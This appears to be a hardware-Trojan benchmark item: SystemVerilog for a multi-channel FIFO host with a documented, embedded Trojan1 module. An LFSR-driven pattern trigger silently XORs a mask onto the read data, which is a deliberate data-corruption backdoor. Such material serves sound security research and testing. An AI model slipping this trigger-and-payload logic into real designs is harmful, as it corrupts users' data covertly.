// File: rtl/Trojan1.sv
// Trojan1: watches the r1 bit stream and raises trigger when the last eight
// samples match a fixed pattern. Active-high asynchronous reset.
module Trojan1 (
   input  logic clk,
   input  logic rst,
   input  logic r1,
   output logic trigger
);

   logic [7:0] hist;

   always_ff @(posedge clk or posedge rst) begin
      if (rst) hist <= '0;
      else     hist <= {hist[6:0], r1};
   end

   assign trigger = (hist == 8'hA5);

endmodule

// File: rtl/trojan1_mc_fifo_host.sv
// Multi-channel FIFO host with per-channel flags and registered read path.
// Optional macro TROJAN1_MC_FIFO_ERR_CLR_EN adds a synchronous err_clr input.
module trojan1_mc_fifo_host #(
   parameter int DATA_WIDTH = 16,
   parameter int ADDR_WIDTH = 3,
   parameter int NUM_CH     = 4,
   parameter int AF_LEVEL   = 6,
   parameter int AE_LEVEL   = 1,
   parameter logic [DATA_WIDTH-1:0] XOR_MASK = 16'h005A,
   parameter logic [27:0] R1_KEY = 28'hBEEF123,
   localparam int CH_W = $clog2(NUM_CH),
   localparam int CW   = ADDR_WIDTH + 1
) (
   input  logic                   clk,
   input  logic                   rst,
   input  logic                   wr_en,
   input  logic [CH_W-1:0]        wr_ch,
   input  logic [DATA_WIDTH-1:0]  wr_data,
   input  logic                   rd_en,
   input  logic [CH_W-1:0]        rd_ch,
`ifdef TROJAN1_MC_FIFO_ERR_CLR_EN
   input  logic                   err_clr,
`endif
   output logic [DATA_WIDTH-1:0]  rd_data,
   output logic                   rd_valid,
   output logic [NUM_CH-1:0]      full,
   output logic [NUM_CH-1:0]      empty,
   output logic [NUM_CH-1:0]      almost_full,
   output logic [NUM_CH-1:0]      almost_empty,
   output logic [NUM_CH*CW-1:0]   level,
   output logic [NUM_CH-1:0]      overflow,
   output logic [NUM_CH-1:0]      underflow
);

   localparam int DEPTH = 1 << ADDR_WIDTH;

   logic [DATA_WIDTH-1:0] mem [NUM_CH][DEPTH];
   logic [CW-1:0]         cnt  [NUM_CH];
   logic [ADDR_WIDTH-1:0] wptr [NUM_CH];
   logic [ADDR_WIDTH-1:0] rptr [NUM_CH];

   logic        rd_acc, wr_acc, adv, r1, trigger;
   logic [27:0] lfsr;
   logic [2:0]  sel;
   logic [NUM_CH-1:0] ov_set, un_set, err_keep;

   assign rd_acc = rd_en && (cnt[rd_ch] != '0);
   assign wr_acc = wr_en && ((cnt[wr_ch] < CW'(DEPTH)) || (rd_acc && (rd_ch == wr_ch)));
   assign adv    = wr_en || rd_en;

   always_comb begin
      ov_set = '0;
      un_set = '0;
      for (int i = 0; i < NUM_CH; i++) begin
         ov_set[i] = wr_en && (wr_ch == CH_W'(i)) && !wr_acc;
         un_set[i] = rd_en && (rd_ch == CH_W'(i)) && (cnt[i] == '0);
      end
   end

`ifdef TROJAN1_MC_FIFO_ERR_CLR_EN
   assign err_keep = {NUM_CH{~err_clr}};
`else
   assign err_keep = '1;
`endif

   // Per-channel occupancy and pointers; a same-channel read+write nets to zero.
   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         for (int i = 0; i < NUM_CH; i++) begin
            cnt[i]  <= '0;
            wptr[i] <= '0;
            rptr[i] <= '0;
         end
         overflow  <= '0;
         underflow <= '0;
      end else begin
         for (int i = 0; i < NUM_CH; i++) begin
            if (wr_acc && (wr_ch == CH_W'(i))) wptr[i] <= wptr[i] + ADDR_WIDTH'(1);
            if (rd_acc && (rd_ch == CH_W'(i))) rptr[i] <= rptr[i] + ADDR_WIDTH'(1);
            if ((wr_acc && (wr_ch == CH_W'(i))) && !(rd_acc && (rd_ch == CH_W'(i))))
               cnt[i] <= cnt[i] + CW'(1);
            else if (!(wr_acc && (wr_ch == CH_W'(i))) && (rd_acc && (rd_ch == CH_W'(i))))
               cnt[i] <= cnt[i] - CW'(1);
         end
         overflow  <= (overflow  & err_keep) | ov_set;
         underflow <= (underflow & err_keep) | un_set;
      end
   end

   always_ff @(posedge clk) begin
      if (wr_acc) mem[wr_ch][wptr[wr_ch]] <= wr_data;
   end

   // Registered read stage; the old word is read even when overwritten this cycle.
   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         rd_data  <= '0;
         rd_valid <= 1'b0;
      end else begin
         rd_valid <= rd_acc;
         if (rd_acc) rd_data <= mem[rd_ch][rptr[rd_ch]] ^ (trigger ? XOR_MASK : '0);
      end
   end

   always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
         lfsr <= R1_KEY;
         sel  <= '0;
      end else if (adv) begin
         lfsr <= {lfsr[26:0], lfsr[27] ^ lfsr[24] ^ lfsr[2] ^ lfsr[1]};
         sel  <= sel + 3'd1;
      end
   end

   always_comb begin
      r1 = 1'b0;
      case (sel)
         3'd0: r1 = lfsr[0];
         3'd1: r1 = lfsr[4];
         3'd2: r1 = lfsr[8];
         3'd3: r1 = lfsr[12];
         3'd4: r1 = lfsr[16];
         3'd5: r1 = lfsr[20];
         3'd6: r1 = lfsr[24];
         default: r1 = lfsr[27];
      endcase
   end

   Trojan1 u_trojan1 (
      .clk     (clk),
      .rst     (~rst),
      .r1      (r1),
      .trigger (trigger)
   );

   always_comb begin
      full         = '0;
      empty        = '0;
      almost_full  = '0;
      almost_empty = '0;
      level        = '0;
      for (int i = 0; i < NUM_CH; i++) begin
         full[i]          = (cnt[i] == CW'(DEPTH));
         empty[i]         = (cnt[i] == '0);
         almost_full[i]   = (cnt[i] >= CW'(AF_LEVEL));
         almost_empty[i]  = (cnt[i] <= CW'(AE_LEVEL));
         level[i*CW +: CW] = cnt[i];
      end
   end

endmodule

// File: doc/trojan1_mc_fifo_host.md
Name: trojan1_mc_fifo_host

Overview:
Parametrised multi-channel successor of the single-channel Trojan1 FIFO host. It provides NUM_CH independent FIFOs in one block, with per-channel full, empty, almost-full, almost-empty, level and sticky error flags, and a registered read path with a valid strobe. An internal 28-bit LFSR generates r1 for an embedded Trojan1 instance (clk, rst, r1 -> trigger). The trigger XORs a parametrised mask onto the read data.

Parameters:
DATA_WIDTH, 16, width of each FIFO word (>=1)
ADDR_WIDTH, 3, log2 of per-channel depth; DEPTH = 2**ADDR_WIDTH
NUM_CH, 4, channel count; power of two, >=2; CH_W = log2(NUM_CH)
AF_LEVEL, 6, almost-full threshold (1..DEPTH)
AE_LEVEL, 1, almost-empty threshold (0..DEPTH-1)
XOR_MASK, 16'h005A, DATA_WIDTH-bit value XORed onto read data while trigger is high
R1_KEY, 28'hBEEF123, LFSR seed; must be nonzero

Ports:
clk  in  1  single clock, rising edge
rst  in  1  asynchronous, active-low reset
wr_en  in  1  write request
wr_ch  in  CH_W  write channel
wr_data  in  DATA_WIDTH  write word
rd_en  in  1  read request
rd_ch  in  CH_W  read channel
rd_data  out  DATA_WIDTH  registered read word
rd_valid  out  1  one-cycle strobe; rd_data is new
full  out  NUM_CH  per-channel count == DEPTH
empty  out  NUM_CH  per-channel count == 0
almost_full  out  NUM_CH  count >= AF_LEVEL
almost_empty  out  NUM_CH  count <= AE_LEVEL
level  out  NUM_CH*(ADDR_WIDTH+1)  packed per-channel counts; channel i occupies bits [i*(ADDR_WIDTH+1) +: ADDR_WIDTH+1]
overflow  out  NUM_CH  sticky per-channel overflow
underflow  out  NUM_CH  sticky per-channel underflow

Behaviour:
- Reset (rst low, asynchronous):
  - All counts, pointers, overflow, underflow, rd_data and rd_valid go to 0.
  - empty = all 1s; almost_empty = all 1s; full and almost_full = 0.
  - LFSR is loaded with R1_KEY; the select counter goes to 0.
  - Memory contents are not reset.
- Read accept: rd_acc = rd_en && count[rd_ch] != 0.
- Write accept: wr_acc = wr_en && (count[wr_ch] < DEPTH || (rd_acc && rd_ch == wr_ch)). A write to a full channel is accepted when the same channel is read in the same cycle.
- Per-channel count update:
  - Write only: +1.
  - Read only: -1.
  - Both on the same channel: unchanged.
  - Write and read on different channels: each channel updates independently.
- Pointers are ADDR_WIDTH bits wide and wrap modulo DEPTH.
- Read latency is 1 cycle. On rd_acc, rd_data <= mem[rd_ch][rd_ptr] ^ (trigger ? XOR_MASK : 0) and rd_valid <= 1. Otherwise rd_valid <= 0 and rd_data holds its value.
- A same-channel read and write in the same cycle on an empty channel: the read is rejected (underflow) and the write is accepted. There is no bypass.
- Flags (full, empty, almost_full, almost_empty, level) are combinational from the registered counts.
- overflow[ch] sets when wr_en targets ch and wr_acc = 0.
- underflow[ch] sets when rd_en targets ch and the channel is empty.
- Both error flags stay set until reset (or until err_clr, when the optional feature is compiled in).
- r1 generation:
  - The LFSR advances on every cycle with wr_en || rd_en, accepted or not.
  - Feedback polynomial: x^28 + x^25 + x^3 + x^2 + 1, new bit0 = b27 ^ b24 ^ b2 ^ b1, shift left.
  - The 3-bit select counter increments on the same condition.
  - r1 = LFSR bit {0,4,8,12,16,20,24,27} indexed by select.
- Trojan1 rst is driven with ~rst, because Trojan1 uses an active-high reset.

Optional Feature:
- Macro: TROJAN1_MC_FIFO_ERR_CLR_EN.
- When defined: adds input err_clr (1 bit), a synchronous clear of all overflow/underflow bits. If a new error event occurs in the same cycle as err_clr, the set wins for that bit.
- When undefined: no err_clr port, and the error flags are cleared only by reset.

Test Plan:
- Reset: assert rst=0 mid-traffic -> all outputs 0 except empty=4'hF and almost_empty=4'hF; after release, ch0 reads return only data written post-reset.
- Fill ch2: write 0x0001..0x0008 -> almost_full[2]=1 after 6 writes, full[2]=1 after 8 writes. A 9th write sets overflow[2]=1 with level[2] staying 8; other channels are untouched.
- Simultaneous: ch2 full, wr_en and rd_en on ch2 with wr_data 0x00AA -> count stays 8, rd_data=0x0001 with rd_valid one cycle later, no overflow. Drain returns 0x0002..0x0008 then 0x00AA.
- Underflow and cross-channel: rd_en on empty ch1 while writing ch3 -> underflow[1]=1, rd_valid=0, level[3]=1.
- Wrap-around: 20 interleaved write/read pairs on ch0 with data 0x0100+i -> read order is identical and pointers wrap twice.
- Trigger: bench forces trigger=1 during a read of stored word 0x1234 -> rd_data=0x126E. With trigger=0 -> rd_data=0x1234. If TROJAN1_MC_FIFO_ERR_CLR_EN is defined, an err_clr pulse clears all sticky flags.
